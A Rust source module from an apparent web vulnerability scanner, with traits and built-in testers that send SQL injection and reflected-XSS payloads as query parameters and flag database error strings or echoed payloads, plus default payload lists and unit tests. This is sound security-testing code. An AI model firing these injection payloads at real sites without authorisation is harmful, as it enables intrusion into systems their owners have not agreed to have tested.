//! Attack toolkit contract and the payload-based detection policy.
//!
//! The comparator only talks to [`SqliTester`] and [`XssTester`], so any
//! toolkit (or a fake in tests) can be injected. [`BuiltinSqliTester`] and
//! [`BuiltinXssTester`] drive payload lists loaded from a toolkit directory or
//! the embedded defaults.
//!
//! Detection is plain substring matching on the response body. It produces
//! false positives and false negatives; nothing here looks at the DOM.

use std::fs;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use async_trait::async_trait;
use reqwest::Client;
use serde::{Deserialize, Serialize};
use tracing::debug;

use crate::error::Error;
use crate::http::send_timed;
use crate::types::{join_url, AttackKind, Severity};

pub const SQLI_PAYLOADS_FILE: &str = "sqli_payloads.txt";
pub const SQLI_ERRORS_FILE: &str = "sqli_errors.txt";
pub const XSS_PAYLOADS_FILE: &str = "xss_payloads.txt";

const DEFAULT_SQLI_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "' OR 1=1--",
    "\" OR \"1\"=\"1",
    "1' ORDER BY 1--",
    "1' ORDER BY 100--",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "1 AND 1=2",
    "')) OR 1=1--",
];

const DEFAULT_SQLI_ERRORS: &[&str] = &[
    "you have an error in your sql syntax",
    "sql syntax",
    "mysql_fetch",
    "warning: mysql",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "pg_query",
    "syntax error at or near",
    "sqlite_error",
    "sqlite3.operationalerror",
    "sqlstate",
    "ora-01756",
    "odbc",
];

const DEFAULT_XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert('XSS')>",
    "<iframe src=javascript:alert('XSS')>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "javascript:alert(1)",
    "<details open ontoggle=alert(1)>",
];

/// A vulnerability reported by a tester.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    pub kind: AttackKind,
    pub payload: String,
    pub evidence: String,
    pub severity: Severity,
}

#[async_trait]
pub trait SqliTester: Send + Sync {
    fn payloads(&self) -> &[String];
    /// Lowercase database error fragments.
    fn error_patterns(&self) -> &[String];
    async fn test_get_parameter(&self, endpoint: &str, parameter: &str) -> Result<Vec<Finding>>;
}

#[async_trait]
pub trait XssTester: Send + Sync {
    fn payloads(&self) -> &[String];
    async fn test_reflected_xss(&self, endpoint: &str, parameter: &str) -> Result<Vec<Finding>>;
}

/// Both testers, injected into the comparator at construction.
#[derive(Clone)]
pub struct Toolkit {
    pub sqli: Arc<dyn SqliTester>,
    pub xss: Arc<dyn XssTester>,
}

impl Toolkit {
    pub fn new(sqli: Arc<dyn SqliTester>, xss: Arc<dyn XssTester>) -> Self {
        Self { sqli, xss }
    }

    /// A toolkit with nothing to send cannot drive any phase.
    pub fn ensure_available(&self) -> Result<(), Error> {
        if self.sqli.payloads().is_empty() {
            return Err(Error::ToolkitUnavailable("SQL injection payload list is empty".into()));
        }
        if self.sqli.error_patterns().is_empty() {
            return Err(Error::ToolkitUnavailable("SQL error pattern list is empty".into()));
        }
        if self.xss.payloads().is_empty() {
            return Err(Error::ToolkitUnavailable("XSS payload list is empty".into()));
        }
        Ok(())
    }
}

/// Payload and pattern lists backing the built-in testers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadSet {
    pub sqli_payloads: Vec<String>,
    pub sqli_errors: Vec<String>,
    pub xss_payloads: Vec<String>,
}

impl Default for PayloadSet {
    fn default() -> Self {
        let own = |list: &[&str]| list.iter().map(|s| s.to_string()).collect();
        Self {
            sqli_payloads: own(DEFAULT_SQLI_PAYLOADS),
            sqli_errors: own(DEFAULT_SQLI_ERRORS),
            xss_payloads: own(DEFAULT_XSS_PAYLOADS),
        }
    }
}

impl PayloadSet {
    /// Read the three list files from `dir`. Any missing or empty file makes the
    /// toolkit unavailable.
    pub fn load_dir(dir: impl AsRef<Path>) -> Result<Self, Error> {
        let dir = dir.as_ref();
        if !dir.is_dir() {
            return Err(Error::ToolkitUnavailable(format!(
                "toolkit directory not found: {}",
                dir.display()
            )));
        }
        let read = |name: &str| -> Result<Vec<String>, Error> {
            let path = dir.join(name);
            let content = fs::read_to_string(&path).map_err(|e| {
                Error::ToolkitUnavailable(format!("cannot read {}: {e}", path.display()))
            })?;
            let list = parse_list_str(&content);
            if list.is_empty() {
                return Err(Error::ToolkitUnavailable(format!("{} is empty", path.display())));
            }
            Ok(list)
        };
        Ok(Self {
            sqli_payloads: read(SQLI_PAYLOADS_FILE)?,
            sqli_errors: read(SQLI_ERRORS_FILE)?
                .into_iter()
                .map(|p| p.to_lowercase())
                .collect(),
            xss_payloads: read(XSS_PAYLOADS_FILE)?,
        })
    }
}

/// Parse a one-entry-per-line list.
///
/// Lines are trimmed; blank lines and lines starting with `#` are skipped.
/// Unlike a ports file, `#` inside an entry is kept because payloads use it.
pub fn parse_list_str(s: &str) -> Vec<String> {
    s.lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(str::to_string)
        .collect()
}

/// First error pattern found in `body`, case-insensitively.
pub fn detect_sqli<'a>(body: &str, patterns: &'a [String]) -> Option<&'a str> {
    let lower = body.to_lowercase();
    patterns
        .iter()
        .find(|p| lower.contains(&p.to_lowercase()))
        .map(String::as_str)
}

/// Reflected XSS: the raw payload is echoed verbatim, or the body carries an
/// unescaped script/handler marker while the escaped payload is absent.
pub fn detect_xss(body: &str, payload: &str) -> bool {
    if body.contains(payload) {
        return true;
    }
    let escaped = payload.replace('<', "&lt;");
    if body.contains(&escaped) {
        return false;
    }
    let lower = body.to_lowercase();
    lower.contains("<script>") || lower.contains("onerror=")
}

/// Sends each SQLi payload as a query parameter and checks for database errors.
pub struct BuiltinSqliTester {
    client: Client,
    base_url: String,
    payloads: Vec<String>,
    error_patterns: Vec<String>,
    timeout: Duration,
}

impl BuiltinSqliTester {
    pub fn new(
        client: Client,
        base_url: impl Into<String>,
        set: &PayloadSet,
        timeout: Duration,
    ) -> Self {
        Self {
            client,
            base_url: base_url.into(),
            payloads: set.sqli_payloads.clone(),
            error_patterns: set.sqli_errors.clone(),
            timeout,
        }
    }
}

#[async_trait]
impl SqliTester for BuiltinSqliTester {
    fn payloads(&self) -> &[String] {
        &self.payloads
    }

    fn error_patterns(&self) -> &[String] {
        &self.error_patterns
    }

    async fn test_get_parameter(&self, endpoint: &str, parameter: &str) -> Result<Vec<Finding>> {
        let url = join_url(&self.base_url, endpoint);
        let mut findings = Vec::new();
        for payload in &self.payloads {
            let request = self
                .client
                .get(&url)
                .query(&[(parameter, payload.as_str())])
                .timeout(self.timeout);
            let resp = match send_timed(request).await {
                Ok(r) => r,
                Err(e) => {
                    debug!(%url, error = %e, "sqli probe request failed");
                    continue;
                }
            };
            if let Some(pattern) = detect_sqli(&resp.body, &self.error_patterns) {
                findings.push(Finding {
                    kind: AttackKind::SqlInjection,
                    payload: payload.clone(),
                    evidence: format!("SQL error pattern: {pattern}"),
                    severity: Severity::Critical,
                });
            }
        }
        Ok(findings)
    }
}

/// Sends each XSS payload as a query parameter and checks for reflection.
pub struct BuiltinXssTester {
    client: Client,
    base_url: String,
    payloads: Vec<String>,
    timeout: Duration,
}

impl BuiltinXssTester {
    pub fn new(
        client: Client,
        base_url: impl Into<String>,
        set: &PayloadSet,
        timeout: Duration,
    ) -> Self {
        Self {
            client,
            base_url: base_url.into(),
            payloads: set.xss_payloads.clone(),
            timeout,
        }
    }
}

#[async_trait]
impl XssTester for BuiltinXssTester {
    fn payloads(&self) -> &[String] {
        &self.payloads
    }

    async fn test_reflected_xss(&self, endpoint: &str, parameter: &str) -> Result<Vec<Finding>> {
        let url = join_url(&self.base_url, endpoint);
        let mut findings = Vec::new();
        for payload in &self.payloads {
            let request = self
                .client
                .get(&url)
                .query(&[(parameter, payload.as_str())])
                .timeout(self.timeout);
            let resp = match send_timed(request).await {
                Ok(r) => r,
                Err(e) => {
                    debug!(%url, error = %e, "xss probe request failed");
                    continue;
                }
            };
            if detect_xss(&resp.body, payload) {
                findings.push(Finding {
                    kind: AttackKind::Xss,
                    payload: payload.clone(),
                    evidence: "Payload reflected without proper encoding".into(),
                    severity: Severity::High,
                });
            }
        }
        Ok(findings)
    }
}

/// Build the built-in toolkit for `base_url` and check it is usable.
pub fn builtin_toolkit(
    client: &Client,
    base_url: &str,
    toolkit_dir: Option<&Path>,
    timeout: Duration,
) -> Result<Toolkit, Error> {
    let set = match toolkit_dir {
        Some(dir) => PayloadSet::load_dir(dir)?,
        None => PayloadSet::default(),
    };
    let toolkit = Toolkit::new(
        Arc::new(BuiltinSqliTester::new(client.clone(), base_url, &set, timeout)),
        Arc::new(BuiltinXssTester::new(client.clone(), base_url, &set, timeout)),
    );
    toolkit.ensure_available()?;
    Ok(toolkit)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn patterns() -> Vec<String> {
        PayloadSet::default().sqli_errors
    }

    #[test]
    fn sqli_detection_is_case_insensitive() {
        let body = "<b>Warning</b>: You have an ERROR in your SQL syntax near ''";
        assert_eq!(
            detect_sqli(body, &patterns()),
            Some("you have an error in your sql syntax")
        );
        assert_eq!(detect_sqli("<html>all good</html>", &patterns()), None);
    }

    #[test]
    fn xss_verbatim_reflection_is_flagged() {
        let payload = "javascript:alert(1)";
        assert!(detect_xss(&format!("<a href=\"{payload}\">x</a>"), payload));
    }

    #[test]
    fn xss_escaped_reflection_is_not_flagged() {
        let payload = "<script>alert('XSS')</script>";
        let body =
            "<p>You searched for &lt;script>alert('XSS')&lt;/script></p><script>app()</script>";
        assert!(!detect_xss(body, payload));
    }

    #[test]
    fn xss_unescaped_marker_without_payload_is_flagged() {
        // Mangled reflection: the payload is altered but an onerror handler survives.
        let payload = "<img src=x onerror=alert('XSS')>";
        let body = "<div><img src=x onerror=alert(&#39;XSS&#39;)></div>";
        assert!(detect_xss(body, payload));
    }

    #[test]
    fn xss_clean_page_is_not_flagged() {
        assert!(!detect_xss("<html><p>hello</p></html>", "<svg onload=alert(1)>"));
    }

    #[test]
    fn list_parsing_skips_comments_and_blanks() {
        let input = "# header\n\n  ' OR 1=1--  \n#another\n<a href='#x'>\n";
        assert_eq!(parse_list_str(input), vec!["' OR 1=1--", "<a href='#x'>"]);
    }

    #[test]
    fn missing_toolkit_dir_is_unavailable() {
        let err = PayloadSet::load_dir("/definitely/not/a/toolkit/dir").unwrap_err();
        assert!(matches!(err, Error::ToolkitUnavailable(_)));
    }

    #[test]
    fn defaults_are_populated() {
        let set = PayloadSet::default();
        assert!(set.sqli_payloads.len() >= 10);
        assert!(set.xss_payloads.len() >= 10);
        assert!(set.sqli_errors.iter().all(|p| *p == p.to_lowercase()));
    }
}
